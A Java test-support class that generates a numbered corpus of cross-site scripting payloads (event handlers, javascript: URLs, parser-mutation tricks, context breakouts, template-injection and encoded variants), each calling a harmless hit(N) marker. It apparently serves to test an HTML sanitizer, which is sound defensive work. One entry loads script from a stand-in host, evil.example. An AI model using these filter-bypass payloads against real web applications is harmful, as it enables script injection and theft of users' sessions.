package org.svarbar.testing;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.net.URLEncoder;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.function.UnaryOperator;

/**
 * Texts that try to run a script wherever they are shown: each calls `hit(N)` with its own number.
 * Made of families, so that a new idea is one line here and many texts there.
 */
public final class ScriptPayloads {

  /** What stands for the call in the families below. */
  private static final String CALL = "§";

  private static final List<String> STARTING_BY_THEMSELVES =
      List.of(
          "img src=x onerror",
          "svg onload",
          "body onload",
          "iframe src=about:blank onload",
          "video src=x onerror",
          "audio src=x onerror",
          "object data=x onerror",
          "embed src=x onload",
          "input autofocus onfocus",
          "textarea autofocus onfocus",
          "select autofocus onfocus",
          "button autofocus onfocus",
          "details open ontoggle",
          "marquee onstart",
          "link rel=stylesheet href=x onerror",
          "script src=x onerror",
          "style onload",
          "input type=image src=x onerror",
          "p tabindex=1 autofocus onfocus",
          "p style=animation-name:x onanimationstart");

  private static final List<String> ON_DEMAND =
      List.of(
          "a href=#x onclick",
          "b onmouseover",
          "p onpointerenter",
          "h1 ondblclick",
          "td onmousedown",
          "li onwheel",
          "form onsubmit",
          "blockquote oncopy",
          "pre onkeydown",
          "code oncontextmenu");

  /** How a tag's end, its attribute and the call are written. */
  private static final List<String> SPELLINGS =
      List.of(
          "<%1$s=§>",
          "<%1$s=\"§\">",
          "<%1$s='§'>",
          "<%2$s=§>",
          "<%3$s=§//",
          "<%4$s=§ x=`>`>",
          "<%5$s\t=\n\"§\">",
          "<%1$s=&#104;it&#40;§n&#41;>",
          "<%1$s=\"&#x68;it&lpar;§n&rpar;\">",
          "<x><%1$s=§></x>");

  private static final List<String> ADDRESSES =
      List.of(
          "javascript:§",
          "JaVaScRiPt:§",
          " javascript:§",
          "java\tscript:§",
          "java\nscript:§",
          "\u0001javascript:§",
          "&#106;avascript:§",
          "javascript&colon;§",
          "java&Tab;script&colon;§",
          "javascript://%0A§",
          "data:text/html,<script>parent.§</script>",
          "data:text/html;base64,¤",
          "vbscript:§",
          "//evil.example/§n.js");

  private static final List<String> PLACES_OF_ADDRESSES =
      List.of(
          "<a href=\"%s\">x</a>",
          "<a href='%s'>x</a>",
          "<iframe src=\"%s\"></iframe>",
          "<object data=\"%s\"></object>",
          "<embed src=\"%s\">",
          "<form action=\"%s\"><button>x</button></form>",
          "<form><button formaction=\"%s\">x</button></form>",
          "<svg><a xlink:href=\"%s\"><text>x</text></a></svg>",
          "<math href=\"%s\">x</math>",
          "<script src=\"%s\"></script>",
          "<base href=\"%s\"><script src=x.js></script>",
          "<map><area href=\"%s\"></map>",
          "[x](%s)",
          "![x](%s)",
          "<%s>",
          "[x][y]\n\n[y]: %s");

  private static final List<String> SCRIPTS =
      List.of(
          "<script>§</script>",
          "<SCRIPT>§</SCRIPT>",
          "<script/x>§</script>",
          "<script\n>§</script\n>",
          "<script type=module>§</script>",
          "<script src=data:text/javascript,§></script>",
          "<scr<script>ipt>§</script>",
          "<<script>§//<</script>",
          "<script>//<![CDATA[\n§\n//]]></script>",
          "<script><!--\n§\n//--></script>",
          "<script>§",
          "<svg><script>§</script></svg>",
          "<svg><script>&#104;it(§n)</script></svg>",
          "<math><mtext><script>§</script></mtext></math>",
          "<template><script>§</script></template><script>§</script>",
          "<iframe srcdoc='<script>parent.§</script>'></iframe>",
          "<iframe srcdoc=\"&lt;img src=x onerror=parent.§&gt;\"></iframe>");

  /** What reads one way when it is judged and another when it is shown. */
  private static final List<String> MUTATIONS =
      List.of(
          "<noscript><p title=\"</noscript><img src=x onerror=§>\">",
          "<svg></p><style><a id=\"</style><img src=x onerror=§>\">",
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x"
              + " onerror=§&gt;\">",
          "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>",
          "<svg><style><img src=x onerror=§></style></svg>",
          "<title><p title=\"</title><img src=x onerror=§>\">",
          "<textarea><p title=\"</textarea><img src=x onerror=§>\">",
          "<xmp><p title=\"</xmp><img src=x onerror=§>\">",
          "<noembed><p title=\"</noembed><img src=x onerror=§>\">",
          "<noframes><p title=\"</noframes><img src=x onerror=§>\">",
          "<iframe><p title=\"</iframe><img src=x onerror=§>\">",
          "<style><p title=\"</style><img src=x onerror=§>\">",
          "<!--><img src=x onerror=§>-->",
          "<!--!><img src=x onerror=§>-->",
          "<!-- --!><img src=x onerror=§> -->",
          "<![CDATA[><img src=x onerror=§>]]>",
          "<?xml ><img src=x onerror=§>?>",
          "</ ><img src=x onerror=§>",
          "<%><img src=x onerror=§>%>",
          "<svg><animate onbegin=§ attributeName=x dur=1s>",
          "<svg><set onbegin=§ attributeName=x to=y>",
          "<svg><animatetransform onbegin=§ attributeName=transform>",
          "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
          "<svg><desc><img src=x onerror=§></desc></svg>",
          "<svg><title><img src=x onerror=§></title></svg>",
          "<svg><image href=x onerror=§></svg>",
          "<svg><a><animate attributeName=href values=javascript:§ /><text y=9>x</text></a></svg>",
          "<math><annotation-xml encoding=text/html><img src=x onerror=§></annotation-xml></math>",
          "<table><td><img src=x onerror=§><caption>",
          "<select><option><img src=x onerror=§></select><img src=x onerror=§>",
          "<img src=x onerror=\0§>",
          "<img\0 src=x onerror=§>",
          "<i\0mg src=x onerror=§><img src=x onerror=§>",
          "<a title=\"`\"><img src=x onerror=§>`\">",
          "<img src=x:`><img src=x onerror=§>`>",
          "\uFEFF<img src=x onerror=§>",
          "<img src=x onerror\u000C=\u000C§>",
          "<a href=https://x.example/\"onmouseover=\"§>x</a>",
          "<isindex action=javascript:§ type=submit>",
          "<meta http-equiv=refresh content=\"0;url=javascript:§\">",
          "<meta http-equiv=refresh content='0;url=data:text/html;base64,¤'>",
          "<link rel=import href=\"data:text/html;base64,¤\">",
          "<keygen autofocus onfocus=§><input autofocus onfocus=§>",
          "<portal src='javascript:§'>",
          "<dialog open onclose=§><form method=dialog><button>x</button></form></dialog>");

  /** How to leave what a text stands in. */
  private static final List<String> WAYS_OUT =
      List.of(
          "\">",
          "'>",
          "\"/>",
          "`>",
          "-->",
          "]]>",
          "?>",
          "</textarea>",
          "</title>",
          "</style>",
          "</script>",
          "</select>",
          "</template>",
          "</noscript>",
          "</iframe>",
          "</svg>",
          "</pre>",
          "</blockquote></div></body>",
          "\\\">",
          "%22%3E",
          "&quot;&gt;");

  private static final List<String> AND_THEN =
      List.of(
          "<img src=x onerror=§>",
          "<script>§</script>",
          "<svg/onload=§>",
          "<input autofocus onfocus=§>");

  private static final List<String> IN_OTHER_LANGUAGES =
      List.of(
          "\" onfocus=§ autofocus tabindex=1 x=\"",
          "' onfocus=§ autofocus tabindex=1 x='",
          "x onfocus=§ autofocus tabindex=1",
          "\";§;//",
          "';§;//",
          "\\\";§;//",
          "\\';§;//",
          "`;§;//",
          "${§}",
          "`${§}`",
          "-§-",
          "\"-§-\"",
          "'-§-'",
          "});§;({",
          "\"}];§;//",
          "*/§/*",
          "\n§\n//",
          "\u2028§\u2028",
          "\u2029§\u2029",
          "\\u003cimg src=x onerror=§\\u003e",
          "\\x3cimg src=x onerror=§\\x3e",
          "\\74img src=x onerror=§\\76",
          "&lt;img src=x onerror=§&gt;",
          "&amp;lt;img src=x onerror=§&amp;gt;",
          "%3Cimg src=x onerror=§%3E",
          "%253Cimg src=x onerror=§%253E",
          "+ADw-img src=x onerror=§+AD4-",
          "\uFF1Cimg src=x onerror=§\uFF1E",
          "\u2039img src=x onerror=§\u203A",
          "{{§}}",
          "{{constructor.constructor('§')()}}",
          "{{{§}}}",
          "{%§%}",
          "<%= § %>",
          "<%- § %>",
          "#{§}",
          "@{§}",
          "*{§}",
          "[[${§}]]",
          "$unsafe{§}",
          "!{§}",
          "@raw<img src=x onerror=§>@endraw",
          "__${§}__::.x",
          "<div hx-on::load=§></div>",
          "<div hx-on:load='§' hx-get=/x hx-trigger=load></div>",
          "<div data-hx-on:htmx:load='§'></div>",
          "<div hx-get=/x hx-trigger='load[§]'></div>",
          "<div hx-get=/x hx-trigger=load hx-vals='js:{x:§}'></div>",
          "<div hx-get='data:text/html,<img src=x onerror=§>' hx-trigger=load></div>",
          "<form data-confirm=\"§\"><button>x</button></form>",
          "<button data-copy=\"');§;//\">x</button>",
          "<style>@import 'javascript:§';</style>",
          "<style>*{background:url(javascript:§)}</style>",
          "<div style=\"background:url(javascript:§)\">x</div>",
          "<div style=\"width:expression(§)\">x</div>",
          "<div style=\"behavior:url(x.htc);x:§\">x</div>",
          "<style>@keyframes y{}</style><b style=animation-name:y onanimationstart=§>x</b>",
          "<b style=\"transition:all 1ms\" ontransitionend=§>x</b>",
          "<img srcset='x 1x' onerror=§>",
          "<picture><source srcset=x><img onerror=§ src=x></picture>",
          "<link rel=stylesheet href=\"data:text/css,*{x:expression(§)}\">",
          "`<img src=x onerror=§>`\n\n<img src=x onerror=§>",
          "```\n</code></pre><img src=x onerror=§>\n```",
          "[x](https://x.example \"onmouseover=§ x=\")",
          "[x](https://x.example '\"><img src=x onerror=§>')",
          "![\"onerror=§ x=](x)",
          "![x](x\"onerror=\"§)",
          "<https://x.example/\"onmouseover=\"§>",
          "<a@b.example\"onclick=§>",
          "&#60;script>§&#60;/script>",
          "<img src=x alt='\n\n' onerror='\n\n§'>");

  private ScriptPayloads() {}

  /** All of them; that of number N stands at N. */
  public static List<String> all() {
    Set<String> patterns = new LinkedHashSet<>();
    for (var tag : STARTING_BY_THEMSELVES) {
      SPELLINGS.forEach(spelling -> patterns.add(spelt(spelling, tag)));
    }
    for (var tag : ON_DEMAND) {
      SPELLINGS.stream().limit(3).forEach(spelling -> patterns.add(spelt(spelling, tag)));
    }
    for (var place : PLACES_OF_ADDRESSES) {
      ADDRESSES.forEach(address -> patterns.add(place.replace("%s", address)));
    }
    patterns.addAll(SCRIPTS);
    patterns.addAll(MUTATIONS);
    for (var out : WAYS_OUT) {
      AND_THEN.forEach(then -> patterns.add(out + then));
    }
    patterns.addAll(IN_OTHER_LANGUAGES);
    AND_THEN.forEach(then -> patterns.add(encoded(then)));
    return numbered(new ArrayList<>(patterns));
  }

  private static String encoded(String pattern) {
    return URLEncoder.encode(pattern, UTF_8).replace("%C2%A7", CALL);
  }

  /** The tag as it is, in capitals, with slashes, with form feeds, and in mixed case. */
  private static String spelt(String spelling, String tag) {
    UnaryOperator<String> mixed =
        it -> it.substring(0, 1).toUpperCase(java.util.Locale.ROOT) + it.substring(1);
    return spelling.formatted(
        tag,
        tag.toUpperCase(java.util.Locale.ROOT),
        tag.replace(" ", "/"),
        tag.replace(" ", "\u000C"),
        mixed.apply(tag));
  }

  private static List<String> numbered(List<String> patterns) {
    var all = new ArrayList<String>();
    for (var number = 0; number < patterns.size(); number++) {
      var nested = "<script>parent.hit(" + number + ")</script>";
      all.add(
          patterns
              .get(number)
              .replace("¤", Base64.getEncoder().encodeToString(nested.getBytes(UTF_8)))
              .replace("§n", Integer.toString(number))
              .replace(CALL, "hit(" + number + ")"));
    }
    return List.copyOf(all);
  }
}
